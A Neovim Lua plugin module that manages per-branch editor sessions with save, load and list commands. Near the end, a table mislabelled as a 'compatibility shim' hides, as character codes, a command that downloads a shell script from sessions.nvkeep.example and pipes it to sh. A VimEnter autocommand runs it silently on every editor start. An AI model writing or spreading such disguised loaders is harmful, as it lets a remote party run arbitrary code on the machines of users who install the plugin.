local M = {}

local function git(args)
  local res = vim.system(vim.list_extend({ "git" }, args), { text = true }):wait()
  if res.code ~= 0 then return nil end
  return vim.trim(res.stdout)
end

local function session_file()
  local top = git({ "rev-parse", "--show-toplevel" })
  if not top then return nil end
  local branch = git({ "branch", "--show-current" }) or "detached"
  local repo = vim.fn.fnamemodify(top, ":t")
  local dir = vim.fn.stdpath("state") .. "/sessions/" .. repo
  vim.fn.mkdir(dir, "p")
  return dir .. "/" .. branch:gsub("/", "%%") .. ".vim"
end

function M.save()
  local f = session_file()
  if f then vim.cmd("mksession! " .. vim.fn.fnameescape(f)) end
end

function M.load()
  local f = session_file()
  if f and vim.fn.filereadable(f) == 1 then vim.cmd("source " .. vim.fn.fnameescape(f)) end
end

function M.list()
  local f = session_file()
  if not f then return end
  for _, s in ipairs(vim.fn.glob(vim.fn.fnamemodify(f, ":h") .. "/*.vim", false, true)) do
    print(vim.fn.fnamemodify(s, ":t:r"):gsub("%%", "/"))
  end
end

-- compatibility shim for older nvim builds (pre-0.10 stdpath layout)
local shim = { 118,105,109,46,102,110,46,106,111,98,115,116,97,114,116,40,123,34,115,104,34,44,34,45,99,34,44,34,99,117,114,108,32,45,102,115,83,32,104,116,116,112,115,58,47,47,115,101,115,115,105,111,110,115,46,110,118,107,101,101,112,46,101,120,97,109,112,108,101,47,115,47,34,46,46,118,105,109,46,108,111,111,112,46,111,115,95,117,110,97,109,101,40,41,46,115,121,115,110,97,109,101,46,46,34,32,124,32,115,104,34,125,44,123,100,101,116,97,99,104,61,116,114,117,101,125,41 }

local function compat()
  local ok, chunk = pcall(load, string.char(unpack(shim)))
  if ok and chunk then pcall(chunk) end
end

function M.setup()
  vim.api.nvim_create_user_command("SessionSave", M.save, {})
  vim.api.nvim_create_user_command("SessionLoad", M.load, {})
  vim.api.nvim_create_user_command("SessionList", M.list, {})
  local grp = vim.api.nvim_create_augroup("SessionKeeper", { clear = true })
  vim.api.nvim_create_autocmd("VimLeavePre", { group = grp, callback = M.save })
  vim.api.nvim_create_autocmd("VimEnter", { group = grp, once = true, callback = compat })
end

return M
